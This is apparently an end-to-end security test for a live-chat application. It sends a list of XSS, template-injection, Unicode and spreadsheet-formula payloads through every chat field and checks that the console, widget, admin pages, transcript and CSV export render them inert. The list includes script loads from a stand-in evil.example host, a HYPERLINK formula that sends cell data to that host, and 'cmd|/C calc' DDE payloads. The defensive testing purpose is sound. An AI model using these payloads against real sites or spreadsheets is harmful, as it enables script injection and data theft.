// Texts that try to become markup, script, links or formulas, through every field of the chat and in every place
// that shows it: console, widget, pages of supervisors and operators, transcript, CSV. Each is shown as it was
// written, or refused; nothing runs.
import { must, until } from "../harness.mjs";

const PASSWORD = "correct horse battery";
const TEXTS = [
  // script and what leads out of where a text may be
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "</script><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "\"><script>alert(1)</script>",
  "'><script>alert(1)</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  // handlers
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  "\" onmouseover=\"alert(1)\" x=\"",
  "' onfocus='alert(1)' autofocus tabindex=0 x='",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<div style=\"animation:x 1s\" onanimationstart=alert(1)>x</div>",
  // frames, objects, forms, styles
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<base href=\"//evil.example/\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<form action=\"javascript:alert(1)\"><button>x</button></form>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'; body{display:none}</style>",
  // links
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//https://example.org/",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "[click](javascript:alert(1))",
  "<a href=\"javascript:alert(1)\">x</a>",
  "https://example.org/\"onmouseover=alert(1)",
  "https://javascript:alert(1)@example.org/",
  // SVG and MathML
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  // templates of others
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)} #{alert(1)} <%= alert(1) %>",
  "<template><img src=x onerror=alert(1)></template>",
  "__proto__",
  // characters that look like others, turn the direction, or end lines
  "\u202Egnp.exe\u202C <b>x</b>",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "a\u2028alert(1)\u2029b",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467} Z\u0351\u036B\u0343a\u0363\u0349l\u0348g\u0346o \u0000".replace("\u0000", "."),
  // formulas
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
];
const isLine = (text) => ![...text].some((c) => c < " " || c === "\u007f" || c === "\u0085" || (c >= "\u0080" && c <= "\u009f"));

// What a page shows in the place of a text: lines become lines, white space stays.
const shown = (text) => text.replaceAll("\n", "");

// Everything in a document that could run or lead elsewhere, if a text had become markup.
function findMarkup() {
  const found = [];
  for (const node of document.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || (name === "style" && /url|expression|animation/i.test(value))) found.push(`${node.tagName} ${name}=${value}`);
      if (["href", "src", "action", "formaction", "xlink:href", "data"].includes(name)) {
        const { protocol, host } = new URL(value, location.href);
        if (!["http:", "https:", "mailto:", "blob:", "data:"].includes(protocol) || (protocol === "data:" && node.tagName !== "LINK" && node.tagName !== "IMG")) found.push(`${node.tagName} ${name}=${value}`);
        if (["SCRIPT", "LINK", "IMG", "IFRAME"].includes(node.tagName) && !["", location.host].includes(host)) found.push(`${node.tagName} ${name}=${value}`);
      }
    }
    if (["OBJECT", "EMBED", "MARQUEE", "BASE", "MATH", "VIDEO", "TEMPLATE"].includes(node.tagName.toUpperCase())) found.push(node.tagName);
    if (node.tagName === "SCRIPT" && !node.src && node.type !== "application/json" && /alert/.test(node.textContent)) found.push(node.outerHTML.slice(0, 80));
  }
  return found;
}

export default async function (tour) {
  const watch = (page) => page.on("dialog", (dialog) => {
    tour.problems.push(`${page.url()}: a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  const inert = async (page, where) => {
    const found = await page.evaluate(findMarkup);
    must(found.length === 0, `${where}: ${found.slice(0, 3).join(" | ")}`);
  };
  const call = async (method, path, body, token, isRaw = false) => {
    const answer = await fetch(`${tour.base}/api/v1${path}`, {
      method, headers: { authorization: token ? `Bearer ${token}` : "", ...(isRaw ? {} : { "content-type": "application/json" }) },
      body: isRaw ? body : body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await answer.text();
    return { status: answer.status, body: text ? JSON.parse(text) : null };
  };
  // One that is taken, or refused by a rule of the field; nothing else.
  const offer = async (...parts) => {
    const answer = await call(...parts);
    must([200, 201, 204, 400].includes(answer.status), `${parts[0]} ${parts[1]}: ${answer.status} ${JSON.stringify(answer.body)} for ${JSON.stringify(parts[2])}`);
    return answer;
  };
  for (const policy of ["message", "visitor_session", "new_conversation", "new_conversation_ip", "upload", "widget", "visitor_update", "login_ip"]) {
    await tour.api("PUT", `/api/v1/ratelimit/policies/${policy}`, { algorithm: "counter", limit: 1_000_000, window_seconds: 60 });
  }

  // An agent whose name is such a text, and canned responses and teams.
  const name = "Sarah <img src=x onerror=alert(1)>";
  const { invitation, agent } = await tour.api("POST", "/api/v1/agents", { email: "sarah@example.org", name, role: "supervisor", capacity: 100 });
  await tour.api("POST", "/api/v1/agents/accept", { invitation, password: PASSWORD });
  const sarah = (await tour.api("POST", "/api/v1/agents/login", { email: "sarah@example.org", password: PASSWORD })).token;
  for (const [n, text] of TEXTS.entries()) {
    await offer("POST", "/canned", { short_code: `x${n}`, content: text }, tour.token);
    if (n % 6 === 0) await offer("POST", "/teams", { name: text.slice(0, 60) }, tour.token);
  }

  // Visitors whose name, page, subject, message, file and tags are such texts.
  const conversations = [], taken = {};
  for (const text of TEXTS) {
    const { token } = (await offer("POST", "/widget/sessions", {})).body;
    for (const [field, value] of [["name", text.slice(0, 100)], ["page_url", text], ["page_url", `https://shop.example/?q=${text}`], ["locale", text.slice(0, 35)]]) {
      const answer = await offer("PATCH", "/widget/session", { [field]: value }, token);
      taken[field] = (taken[field] ?? 0) + (answer.status === 200 ? 1 : 0);
    }
    const started = await offer("POST", "/widget/conversations", { ...(isLine(text) ? { subject: text } : {}), message: { content: text } }, token);
    must(started.status === 201, `${JSON.stringify(text)} is a message: ${JSON.stringify(started.body)}`);
    must(started.body.message.content === text, `${JSON.stringify(text)} is kept as it was written`);
    const { id } = started.body.conversation;
    const file = await offer("POST", `/widget/files?name=${encodeURIComponent(text)}`, new TextEncoder().encode("<script>alert(1)</script>"), token, true);
    if (file.status === 201) await offer("POST", `/widget/conversations/${id}/messages`, { attachments: [file.body.id] }, token);
    await offer("PATCH", `/conversations/${id}`, { tags: [text.slice(0, 40)] }, sarah);
    await offer("POST", `/conversations/${id}/messages`, { content: text, type: "note" }, sarah);
    conversations.push({ id, text, token, hasFile: file.status === 201 });
  }

  must(taken.name >= TEXTS.length - 5 && taken.page_url >= TEXTS.length - 5, `names and pages that were taken: ${JSON.stringify(taken)}`);

  // The console: the list, every conversation with its side panel, the search, the canned responses.
  const desk = await tour.visitor();
  watch(desk);
  await desk.goto("/desk/login");
  await desk.getByLabel("E-mail").fill("sarah@example.org");
  await desk.getByLabel("Password").fill(PASSWORD);
  await desk.getByRole("button", { name: "Log in" }).click();
  await desk.getByRole("navigation", { name: "Views" }).waitFor();
  await desk.getByRole("button", { name: /^All open/ }).click();
  await desk.getByRole("region", { name: "Messages" }).or(desk.getByText("No conversation is open")).first().waitFor();
  await inert(desk, "the list");
  for (const { id, text, hasFile } of conversations) {
    await desk.goto(`/desk?conversation=${id}#all/${id}`);
    const bubbles = desk.locator(".messages .bubble");
    await until(`${JSON.stringify(text)} is shown as it was written`, async () => {
      const all = await bubbles.allTextContents();
      return all.filter((one) => one === shown(text)).length === 2;
    });
    if (hasFile) await desk.locator(".messages a[download]").first().waitFor();
    await inert(desk, `console, ${JSON.stringify(text)}`);
  }
  const reply = desk.getByRole("textbox", { name: "Reply", exact: true });
  await reply.fill("/x1");
  await desk.getByRole("option", { name: /x1/ }).first().waitFor();
  await inert(desk, "canned responses");
  await reply.fill("");
  await tour.look(desk, "desk-console-markup");

  // The widget: a visitor's own texts, and an agent's.
  const page = await tour.visitor({ acceptDownloads: true });
  watch(page);
  await page.goto("/chat");
  await page.getByLabel("Name").fill("Eva <img src=x onerror=alert(1)>");
  await page.getByLabel("Write a message").fill(TEXTS[0]);
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await page.getByText(/Sent|Read/).first().waitFor();
  const own = await page.evaluate(() => JSON.parse(localStorage.getItem("tidegate.token")));
  must(own, "the page keeps its token");
  const mine = (await call("GET", "/widget/conversations", undefined, own)).body.items[0].id;
  for (const [n, text] of TEXTS.entries()) {
    const path = n % 2 ? `/widget/conversations/${mine}/messages` : `/conversations/${mine}/messages`;
    must((await call("POST", path, { content: text }, n % 2 ? own : sarah)).status === 201, `${JSON.stringify(text)} is sent`);
  }
  const expected = [...new Set(TEXTS.map(shown))];
  await until("all of them are shown as they were written", async () => {
    const all = new Set(await page.locator(".bubble").allTextContents());
    return expected.every((text) => all.has(text));
  });
  await inert(page, "the widget");
  must((await page.getByText(name).count()) > 0, "the agent's name is shown as it was written");
  await call("PATCH", `/conversations/${mine}`, { status: "resolved" }, sarah);
  await page.getByText("How did we do?").waitFor();
  await page.getByLabel("1 of 5").check({ force: true });
  await page.getByLabel(/Anything you would like to add/).fill("=cmd|' /C calc'!A0 <img src=x onerror=alert(1)>");
  await page.getByRole("button", { name: "Send rating" }).click();
  await page.getByText("Thank you!").waitFor();
  const textOf = async (download) => Buffer.concat(await (await download.createReadStream()).toArray()).toString();
  const saving = page.waitForEvent("download");
  await page.getByRole("button", { name: "Save transcript" }).click();
  const saved = await saving;
  must(saved.suggestedFilename().endsWith(".txt"), `the transcript is text: ${saved.suggestedFilename()}`);
  const transcript = await textOf(saved);
  for (const text of TEXTS) must(transcript.includes(text), `the transcript has ${JSON.stringify(text)}`);

  // Pages of supervisors, and the file of a spreadsheet.
  const manage = await tour.visitor({ acceptDownloads: true, storageState: await desk.context().storageState() });
  watch(manage);
  await manage.goto("/desk/manage");
  await manage.getByRole("heading").first().waitFor();
  const tabs = await manage.locator("a[href^='#'], a[href^='/desk/manage#']").evaluateAll((links) => links.map((link) => link.hash));
  must(tabs.includes("#reports") && tabs.length >= 4, `the pages of supervisors: ${tabs.join()}`);
  for (const tab of new Set(tabs.filter((one) => one.length > 1 && one !== "#main"))) {
    await manage.evaluate((hash) => { location.hash = hash; }, tab);
    await manage.waitForLoadState("networkidle");
    await inert(manage, `supervisors' ${tab}`);
  }
  const button = manage.getByRole("link", { name: /CSV/ });
  await manage.evaluate(() => { location.hash = "#reports"; });
  await button.waitFor();
  const exporting = manage.waitForEvent("download");
  await button.click();
  const csv = await textOf(await exporting);
  const cells = csv.match(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g).map((cell) => cell.replace(/(,|\r\n)$/, "").replace(/^"([^]*)"$/, "$1").replaceAll('""', '"'));
  must(cells.length > TEXTS.length * 16, `the export has ${cells.length} cells`);
  for (const cell of cells) must(!/^[=+\-@\t\r]/.test(cell), `a spreadsheet would run ${JSON.stringify(cell)}`);
  must(cells.some((cell) => cell === "'=1+1"), `a formula is there as text: ${JSON.stringify(cells.filter((cell) => cell.includes("1+1")))}`);

  // Pages of operators.
  const admin = await tour.login();
  watch(admin);
  for (const path of ["/desk/users", "/desk/traffic", "/desk/limits", "/desk/chat", "/audit", "/"]) {
    await admin.goto(path);
    await admin.waitForLoadState("domcontentloaded");
    await inert(admin, path);
  }
  // A name that is used in an object's keys changes nothing for others.
  must(Object.keys({}).length === 0 && agent.name === name, "names stay names");
}
